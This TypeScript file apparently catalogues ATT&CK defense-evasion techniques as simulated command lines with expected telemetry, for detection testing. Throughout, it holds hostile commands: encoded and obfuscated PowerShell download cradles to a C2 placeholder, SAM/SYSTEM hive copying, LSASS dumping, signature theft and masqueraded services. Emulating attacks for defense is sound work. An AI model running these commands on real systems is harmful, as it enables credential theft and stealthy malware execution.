import { NET35, t, v } from "../dsl";
import {
  apiHashingVariants,
  embeddedVariants,
  junkCodeVariants,
  lnkIconVariants,
  packingVariants,
  paddingVariants,
  polymorphicVariants,
  stegoVariants,
  strippedVariants,
  toolIndicatorVariants,
} from "./defense-evasion-obfuscation";

/** Defense evasion: proxy execution through signed binaries and tampering, as in Atomic tests and incidents. */
export const defenseEvasion = [
  t(
    "T1006",
    "Direct volume access",
    "Raw volume reads to copy locked files (ntds.dit, SAM) bypassing file ACLs.",
    [
      v(
        "invoke-ninjacopy",
        [
          {
            ps: "Invoke-NinjaCopy -Path C:\\Windows\\System32\\config\\SAM -LocalDestination C:\\Windows\\Temp\\sam.hive",
            files: ["C:\\Windows\\Temp\\sam.hive"],
            // Opens \\.\C: and parses NTFS itself: Sysmon 9 from powershell.exe.
            then: [{ id: "raw", kind: "disk.rawread", device: "\\Device\\HarddiskVolume3" }],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "rawcopy",
        [
          {
            cmd: "{{tools}}\\RawCopy64.exe /FileNamePath:C:\\Windows\\System32\\config\\SYSTEM /OutputPath:{{tools}}",
            files: ["{{tools}}\\SYSTEM"],
            then: [{ id: "raw", kind: "disk.rawread", device: "\\Device\\HarddiskVolume3" }],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1014", "Rootkit", "A kernel driver installed as a service and loaded.", [
    v(
      "driver-service",
      [
        {
          cmd: 'sc create {{name}} type= kernel binPath= "C:\\Windows\\System32\\drivers\\{{rand}}.sys"',
          then: [
            {
              id: "s",
              kind: "service.install",
              proc: "@services",
              name: "{{name}}",
              imagePath: "C:\\Windows\\System32\\drivers\\{{rand}}.sys",
              serviceType: "kernel mode driver",
            },
          ],
        },
        {
          cmd: "sc start {{name}}",
          then: [
            {
              id: "d",
              kind: "driver.load",
              image: "C:\\Windows\\System32\\drivers\\{{rand}}.sys",
              signed: false,
              signature: "",
            },
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1027",
    "Obfuscated files or information",
    "Encoded and obfuscated command lines: powershell -enc, certutil -decode.",
    [
      v("powershell-enc", [
        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA",
      ]),
      v("certutil-decode", [
        {
          cmd: "certutil -decode {{tmp}}\\{{rand}}.txt {{tmp}}\\{{rand}}.exe",
          files: ["{{tmp}}\\{{rand}}.exe"],
        },
      ]),
    ],
  ),
  t("T1027.001", "Binary padding", "A payload inflated past AV size limits with fsutil or copy /b.", [
    ...paddingVariants,
    v("fsutil-pad", [
      "fsutil file createnew {{tmp}}\\pad.bin 104857600",
      {
        cmd: "cmd.exe /c copy /b {{tmp}}\\{{rand}}.exe + {{tmp}}\\pad.bin {{appdata}}\\{{name}}.exe",
        files: ["{{appdata}}\\{{name}}.exe"],
      },
    ]),
  ]),
  t("T1027.002", "Software packing", "A UPX-packed or PyInstaller-bundled payload written and run.", [
    ...packingVariants,
    v("upx", [
      "{{tools}}\\upx.exe -9 {{tools}}\\{{rand}}.exe -o {{tools}}\\{{name}}.exe",
      "{{tools}}\\{{name}}.exe",
    ]),
  ]),
  t(
    "T1027.003",
    "Steganography",
    "A script hidden in a shortcut's trailing data or in image pixels, carved out and run.",
    stegoVariants,
  ),
  t(
    "T1027.004",
    "Compile after delivery",
    "Source compiled on the host with csc.exe (often by PowerShell Add-Type).",
    [
      v("csc", [
        {
          cmd: `${NET35}\\csc.exe /target:exe /out:{{tmp}}\\{{rand}}.exe {{tmp}}\\{{rand}}.cs`,
          files: ["{{tmp}}\\{{rand}}.exe"],
        },
      ]),
      v(
        "add-type",
        [
          { ps: "Add-Type -TypeDefinition $code -Language CSharp" },
          {
            cmd: `"${NET35}\\csc.exe" /noconfig /fullpaths @"{{tmp}}\\{{rand}}.cmdline"`,
            parent: "sh",
            as: "csc",
          },
          {
            cmd: `${NET35}\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:{{tmp}}\\RES{{rand}}.tmp"`,
            parent: "csc",
          },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1027.005",
    "Indicator removal from tools",
    "A tool rebuilt with strings changed; seen as a renamed binary run.",
    toolIndicatorVariants,
  ),
  t("T1027.006", "HTML smuggling", "An HTML attachment assembles a ZIP/ISO in the browser.", [
    v(
      "html-blob",
      [
        {
          by: "@msedge",
          files: ["{{downloads}}\\{{Invoice|Document|Scan}}_{{n}}.zip"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1027.007",
    "Dynamic API resolution",
    "Shellcode loader resolving APIs by hash; visible as its process and network.",
    [...apiHashingVariants, v("loader", [{ cmd: "{{tools}}\\{{name}}.exe", net: [["{{c2}}", 443]] }])],
  ),
  t("T1027.008", "Stripped payloads", "A stripped binary dropped and started.", [
    ...strippedVariants,
    v("stripped", [{ cmd: "{{tmp}}\\{{rand}}.exe", net: [["{{c2}}", 443]] }]),
  ]),
  t("T1027.009", "Embedded payloads", "A dropper writing an embedded PE and running it.", [
    ...embeddedVariants,
    v("dropper", [
      { cmd: "{{downloads}}\\{{name}}_setup.exe", as: "d", files: ["{{tmp}}\\{{rand}}.exe"] },
      { cmd: "{{tmp}}\\{{rand}}.exe", parent: "d" },
    ]),
  ]),
  t(
    "T1027.010",
    "Command obfuscation",
    "Caret/quote-split cmd, string-concatenated PowerShell, and env-var substring tricks.",
    [
      v("cmd-carets", [
        "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -c \"i`e`x (n`ew-obj`ect N`et.WebC`lient).Down`loadString('http://{{c2}}/a')\"",
      ]),
      v("ps-concat", [
        "powershell.exe -nop -c \"&('I'+'EX') (&('New-'+'Object') ('Net.'+'WebClient')).('Download'+'String').Invoke('http://{{c2}}/s')\"",
      ]),
      v("env-substring", ["cmd.exe /c %COMSPEC:~-7,1%%COMSPEC:~4,1%%COMSPEC:~-12,1% /c whoami"]),
    ],
  ),
  t("T1027.011", "Fileless storage", "A payload stored in the registry and loaded by PowerShell.", [
    v(
      "registry-blob",
      [
        {
          ps: "New-ItemProperty -Path HKCU:\\Software\\Classes\\{{rand}} -Name d -Value $b64 -PropertyType String",
          reg: [
            ["HKCU\\Software\\Classes\\{{rand}}", "d", "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA"],
          ],
        },
        {
          ps: "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((Get-ItemProperty HKCU:\\Software\\Classes\\{{rand}}).d)))",
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.012", "LNK icon smuggling", "A shortcut whose icon location fetches a remote file.", [
    v(
      "lnk-icon",
      [
        {
          cmd: 'C:\\Windows\\System32\\cmd.exe /c powershell -w hidden -c "iwr http://{{c2}}/i.ico -OutFile $env:TEMP\\i.exe; & $env:TEMP\\i.exe"',
          parent: "@explorer",
        },
      ],
      { shell: "none" },
    ),
    ...lnkIconVariants,
  ]),
  t("T1027.013", "Encrypted/encoded file", "An encoded blob decoded with certutil before execution.", [
    v("certutil-decodehex", [
      {
        cmd: "certutil -decodehex {{tmp}}\\{{rand}}.hex {{tmp}}\\{{rand}}.dll",
        files: ["{{tmp}}\\{{rand}}.dll"],
      },
    ]),
    v(
      "ps-frombase64",
      [
        {
          ps: '[IO.File]::WriteAllBytes("$env:TEMP\\{{rand}}.exe", [Convert]::FromBase64String((Get-Content $env:TEMP\\{{rand}}.b64)))',
          files: ["{{tmp}}\\{{rand}}.exe"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.014", "Polymorphic code", "A self-modifying payload; seen as a new hash each run.", [
    ...polymorphicVariants,
    v("run", ["{{tmp}}\\{{rand}}.exe"]),
  ]),
  t("T1027.015", "Compression", "A payload shipped in a password-protected archive and extracted.", [
    v("7z", [
      {
        cmd: "{{tools}}\\7za.exe x -pinfected {{downloads}}\\{{rand}}.zip -o{{tmp}}",
        files: ["{{tmp}}\\{{rand}}.exe"],
      },
    ]),
    v(
      "expand-archive",
      [
        {
          ps: "Expand-Archive -Path $env:USERPROFILE\\Downloads\\{{rand}}.zip -DestinationPath $env:TEMP\\{{rand}}",
          files: ["{{tmp}}\\{{rand}}\\{{name}}.exe"],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.016", "Junk code insertion", "A script padded with junk statements; seen in script block logs.", [
    ...junkCodeVariants,
    v(
      "junk-ps",
      [
        {
          ps: "$a1=1;$a2=2;$a3=$a1+$a2;for($i=0;$i -lt 5;$i++){$null=$i*3};$q='ht'+'tp://{{c2}}/p';IEX (New-Object Net.WebClient).DownloadString($q)",
          net: [["{{c2}}", 80]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1027.017", "SVG smuggling", "An SVG attachment with script drops a payload via the browser.", [
    v(
      "svg",
      [
        {
          by: "@msedge",
          files: ["{{downloads}}\\{{rand}}.svg", "{{downloads}}\\{{rand}}.zip"],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1036", "Masquerading", "A payload named like a system binary in the wrong place.", [
    v("svchost-in-appdata", ["{{appdata}}\\svchost.exe -k netsvcs"]),
  ]),
  t("T1036.001", "Invalid code signature", "A payload with a copied Authenticode signature.", [
    v("sigthief", [
      '"C:\\Program Files\\Python311\\python.exe" {{tools}}\\sigthief.py -i C:\\Windows\\System32\\consent.exe -t {{tmp}}\\{{rand}}.exe -o {{tmp}}\\{{name}}.exe',
    ]),
  ]),
  t("T1036.002", "Right-to-left override", "A file name with U+202E run from Downloads.", [
    v("rtlo", [{ cmd: '"{{downloads}}\\Invoice_\u202Efdp.exe" ', parent: "@explorer" }], { shell: "none" }),
  ]),
  t(
    "T1036.003",
    "Rename legitimate utilities",
    "System tools and admin utilities copied under another name before use (Atomic T1036.003, intrusion reports).",
    [
      // Atomic T1036.003 #5: PowerShell run as taskhostw.exe from AppData (the copy keeps PowerShell's PE identity).
      v("renamed-powershell", [
        {
          cmd: "cmd.exe /c copy %windir%\\System32\\windowspowershell\\v1.0\\powershell.exe %APPDATA%\\taskhostw.exe /Y",
          copies: [
            ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "{{appdata}}\\taskhostw.exe"],
          ],
        },
        { cmd: "cmd.exe /K %APPDATA%\\taskhostw.exe", as: "k" },
        { cmd: "{{appdata}}\\taskhostw.exe", parent: "k" },
      ]),
      // Atomic #1: cmd.exe copied to a Temp lsass.exe and started.
      v("renamed-cmd-lsass", [
        {
          cmd: "cmd.exe /c copy %SystemRoot%\\System32\\cmd.exe %SystemRoot%\\Temp\\lsass.exe",
          copies: [["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\Temp\\lsass.exe"]],
        },
        { cmd: "C:\\Windows\\Temp\\lsass.exe /B /c whoami /all" },
      ]),
      // Renamed certutil as a downloader (seen with ransomware affiliates staging tools).
      v("renamed-certutil", [
        {
          cmd: "cmd.exe /c copy C:\\Windows\\System32\\certutil.exe {{tmp}}\\ctu.exe",
          copies: [["C:\\Windows\\System32\\certutil.exe", "{{tmp}}\\ctu.exe"]],
        },
        {
          cmd: "{{tmp}}\\ctu.exe -urlcache -split -f http://{{c2}}/p.exe {{tmp}}\\p.exe",
          net: [["{{c2}}", 80]],
          files: ["{{tmp}}\\p.exe"],
        },
      ]),
      // Atomic #4: wscript.exe running as svchost.exe from AppData.
      v("renamed-wscript-svchost", [
        {
          cmd: "cmd.exe /c copy %SystemRoot%\\System32\\wscript.exe %APPDATA%\\svchost.exe /Y",
          copies: [["C:\\Windows\\System32\\wscript.exe", "{{appdata}}\\svchost.exe"]],
        },
        { cmd: "cmd.exe /c %APPDATA%\\svchost.exe /B {{appdata}}\\{{rand}}.vbs", as: "c" },
        { cmd: "{{appdata}}\\svchost.exe /B {{appdata}}\\{{rand}}.vbs", parent: "c" },
      ]),
      // PsExec brought in under a service-like name (ransomware operators, e.g. Conti/LockBit playbooks).
      v("renamed-psexec", [
        {
          cmd: "C:\\Windows\\Temp\\svcmgr.exe -accepteula \\\\{{srv}} -s cmd.exe",
          copyOf: "C:\\Tools\\PsExec64.exe",
          reg: [["HKCU\\Software\\Sysinternals\\PsExec", "EulaAccepted", "1", "REG_DWORD"]],
          net: [["@server", 445]],
        },
      ]),
      // ProcDump renamed to dump LSASS (e.g. "dump64.exe" in intrusion reports).
      v(
        "renamed-procdump",
        [
          {
            cmd: "{{tools}}\\dump64.exe -accepteula -ma lsass.exe {{tools}}\\out.dmp",
            copyOf: "C:\\Tools\\procdump64.exe",
            reg: [["HKCU\\Software\\Sysinternals\\ProcDump", "EulaAccepted", "1", "REG_DWORD"]],
            access: ["@lsass", "0x1fffff", "dbghelp.dll", "dbgcore.dll", "dump64.exe"],
            files: ["{{tools}}\\out.dmp"],
          },
        ],
        { elevated: true },
      ),
      // Renamed rundll32 loading a DLL's export.
      v("renamed-rundll32", [
        {
          cmd: "cmd.exe /c copy C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\{{name}}.exe",
          copies: [["C:\\Windows\\System32\\rundll32.exe", "C:\\ProgramData\\{{name}}.exe"]],
        },
        {
          cmd: "C:\\ProgramData\\{{name}}.exe C:\\ProgramData\\{{rand}}.dll,DllRegisterServer",
          loads: ["C:\\ProgramData\\{{rand}}.dll"],
        },
      ]),
    ],
  ),
  t("T1036.004", "Masquerade task or service", "Tasks and services named like Windows components.", [
    v(
      "schtasks-windows-name",
      [
        'schtasks /create /tn "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start" /tr "C:\\ProgramData\\Microsoft\\{{rand}}.exe" /sc daily /st 09:00 /ru SYSTEM /f',
      ],
      { elevated: true },
    ),
    v(
      "sc-windows-name",
      [
        'sc create "WinDefendUpdate" binPath= "C:\\ProgramData\\{{rand}}.exe" DisplayName= "Windows Defender Update Service" start= auto',
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1036.005",
    "Match legitimate name or location",
    "Payloads named svchost/lsass/explorer in user-writable or lookalike paths.",
    [
      v("svchost-public", ["C:\\Users\\Public\\svchost.exe"]),
      v("lookalike-dir", ['"C:\\Windows \\System32\\{{name}}.exe"']),
      v("programdata-lsass", ["C:\\ProgramData\\Microsoft\\lsass.exe"]),
    ],
  ),
  t("T1036.007", "Double file extension", "A lure named .pdf.exe or .docx.scr opened by the user.", [
    v("pdf-exe", [{ cmd: '"{{downloads}}\\Statement_{{n}}.pdf.exe" ', parent: "@explorer" }], {
      shell: "none",
    }),
    v("doc-scr", [{ cmd: '"{{downloads}}\\Contract.docx.scr" /S', parent: "@explorer" }], { shell: "none" }),
  ]),
  t("T1036.008", "Masquerade file type", "A PE with a .jpg or .txt extension executed.", [
    v("rundll32-jpg", ["rundll32.exe {{tmp}}\\{{rand}}.jpg,DllMain"]),
    v("exe-as-txt", ['cmd.exe /c start "" {{tmp}}\\{{rand}}.txt']),
  ]),
  t("T1036.010", "Masquerade account name", "A local account named like a built-in.", [
    v(
      "net-user",
      [
        {
          cmd: "net user DefaultAccount0 P@ss{{n}}! /add",
          then: [{ id: "a", kind: "account.create", user: "DefaultAccount0", local: true }],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1036.012", "Browser fingerprint", "A tool spoofing the browser user agent when calling out.", [
    v("curl-ua", [
      {
        cmd: 'curl.exe -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36" https://{{c2}}/j',
        net: [["{{c2}}", 443]],
      },
    ]),
  ]),
];
